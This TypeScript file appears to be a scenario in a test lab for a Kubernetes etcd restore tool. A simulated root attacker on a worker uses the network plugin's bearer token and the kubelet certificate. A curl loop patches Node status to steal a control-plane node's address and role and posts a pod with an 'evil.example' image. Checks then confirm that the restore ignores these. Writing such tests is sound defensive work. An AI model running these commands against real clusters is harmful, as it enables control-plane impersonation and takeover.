/**
 * As ha-restored. Before the backup root on a worker has the network plugin's token, which may write the status and
 * the labels of every Node: cp2's address and role are his worker's, and cp2 is nowhere. A snapshot of etcd 3.5 has
 * no names of members that have joined (kubeadm up to 1.33: KUBERNETES=v1.29.15).
 */
import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { WORDS_FILE } from "../../../shared/node/rescue-folder.ts";
import type { SavedOption } from "../../../shared/node/words.ts";
import { INTRUDER_HOME, INTRUDER_PACKAGES } from "../attacker/intruder.ts";
import { pluginsToken, ROLE } from "../attacker/network-plugin.ts";
import { mirrorPodOfKubelet } from "../attacker/objects.ts";
import { ENDPOINT } from "../machine/kubeadm-config.ts";
import { kubectl, type Machine, sh } from "../machine/machine.ts";
import { list } from "../report/snapshot.ts";
import { type Scenario, type Scene, sayAndWait } from "../scene/scene.ts";
import { haRestored } from "./restored.ts";

const EVIL = "evil.example/apiserver";
const UNIT = "takes-a-place";
const NOWHERE = "10.250.9.9";

const hisWorker = ({ lab }: Scene): Machine => lab.workers.at(-1)!;

async function takePlace(scene: Scene) {
  const { lab } = scene;
  const [worker, cp2] = [hisWorker(scene), lab.controlPlanes[1]!];
  const node = (await list(lab, "nodes")).find(({ metadata }) => metadata.name === worker.nodeName)!;
  const addresses = (ip: string, name: string) => [
    { type: "InternalIP", address: ip },
    { type: "Hostname", address: name },
  ];
  const pod = mirrorPodOfKubelet(`kube-apiserver-${worker.nodeName}`, {
    nodeName: worker.nodeName,
    uid: node.metadata.uid,
  }) as unknown as { spec: { containers: object[] } };
  pod.spec.containers = [
    { name: "kube-apiserver", image: EVIL, command: ["kube-apiserver", `--advertise-address=${cp2.ip}`] },
  ];
  const files = {
    "plugin.header": `Authorization: Bearer ${await pluginsToken(lab)}`,
    "own.json": {
      metadata: { labels: { [ROLE]: "" } },
      status: { addresses: addresses(cp2.ip, worker.nodeName) },
    },
    "theirs.json": { status: { addresses: addresses(NOWHERE, cp2.nodeName) } },
    "pod.json": pod,
    "run.sh": loop(worker, cp2),
  };
  mkdirSync(worker.path(INTRUDER_HOME), { recursive: true, mode: 0o700 });
  for (const [name, text] of Object.entries(files))
    writeFileSync(
      worker.path(`${INTRUDER_HOME}/${name}`),
      typeof text === "string" ? text : JSON.stringify(text),
      { mode: 0o700 },
    );
  await sh(worker, `systemd-run --unit=${UNIT} --collect bash ${INTRUDER_HOME}/run.sh`);
  const isBelieved = async () =>
    (await kubectl(lab, ["get", "node", worker.nodeName, "-o", "json"])).stdout.includes(`"${cp2.ip}"`);
  await sayAndWait(scene, `${worker.nodeName}'s Node has cp2's address`, isBelieved, {
    seconds: 60,
    hint: `${INTRUDER_HOME}/loop.log in ${worker.name}`,
  });
}

/** The kubelets correct their status every ten seconds. */
function loop({ nodeName }: Machine, cp2: Machine): string {
  const api = `https://${ENDPOINT}/api/v1`;
  const patch =
    "curl -sSk --max-time 5 -H @plugin.header -X PATCH -H 'Content-Type: application/merge-patch+json'";
  const kubelet = "curl -sSk --max-time 5 --cert /var/lib/kubelet/pki/kubelet-client-current.pem";
  return `cd ${INTRUDER_HOME}
until [ -e stop ]; do
  ${patch} --data @own.json ${api}/nodes/${nodeName}/status
  ${patch} --data @theirs.json ${api}/nodes/${cp2.nodeName}/status
  ${kubelet} -H 'Content-Type: application/json' --data @pod.json ${api}/namespaces/kube-system/pods
  sleep 0.1
done > loop.log 2>&1`;
}

async function findings(scene: Scene) {
  const { lab, checks, steps } = scene;
  const worker = hisWorker(scene);
  const cps = lab.controlPlanes.map(({ nodeName }) => nodeName);
  const said = steps.map(({ stdout, stderr }) => `${stdout}\n${stderr}`).join("\n");
  const asked = /^error: .*have no name in this data.*$/m.exec(said)?.[0];
  const told = steps.find(({ command }) => /restore\.ts .*--lost /.test(command))?.command;
  const named = marks(lab.controlPlanes[0]!);
  checks.push(
    {
      name: "whose the members without a name were says the operator, where the snapshot does not name them",
      ok: (asked ?? told) !== undefined || !said.includes("etcd 3.5"),
      detail: asked ?? told ?? "the snapshot names all of them",
    },
    {
      name: "a restore remembers the control plane nodes alone",
      ok: named.length > 0 && named.every((name) => cps.includes(name)),
      detail: named.join(", ") || "no word of a restore",
    },
    {
      name: "no printed line brings a file from the attacker's worker",
      ok: !said.includes(`ssh root@${worker.nodeName} tar`),
      detail: worker.nodeName,
    },
    {
      name: "no manifest has the attacker's image",
      ok: lab.nodes.every((node) => !manifestsOf(node).includes(EVIL)),
      detail: EVIL,
    },
  );
}

/** What he wrote is in the snapshot: he waits for what becomes of it. */
async function wait(scene: Scene) {
  await sh(hisWorker(scene), `touch ${INTRUDER_HOME}/stop`);
}

/** Names of control plane nodes that the words of the restore have. */
function marks(node: Machine): string[] {
  const files = readdirSync(node.path("/root")).map((name) => node.path(`/root/${name}/${WORDS_FILE}`));
  return files.flatMap((path) =>
    existsSync(path)
      ? (JSON.parse(readFileSync(path, "utf8")) as { said: SavedOption[] }).said.flatMap(
          ({ members = [] }) => members,
        )
      : [],
  );
}

function manifestsOf(node: Machine): string {
  const folder = node.path("/etc/kubernetes/manifests");
  const names = existsSync(folder) ? readdirSync(folder) : [];
  return names.map((name) => readFileSync(`${folder}/${name}`, "utf8")).join("\n");
}

const [backedUp, destroyed, repaired, ...after] = haRestored.lines;

export const hostileRestored: Scenario = {
  ...haRestored,
  name: "hostile-restored",
  title: "As ha-restored, with an attacker who is root on a worker and takes a control plane node's place",
  packages: [...INTRUDER_PACKAGES],
  lines: [
    { title: "The attacker gives his worker cp2's address and role", run: takePlace },
    backedUp!,
    destroyed!,
    { title: "The attacker waits", run: wait },
    repaired!,
    { title: "Nothing of the attacker's is put to use", run: findings },
    ...after,
  ],
};
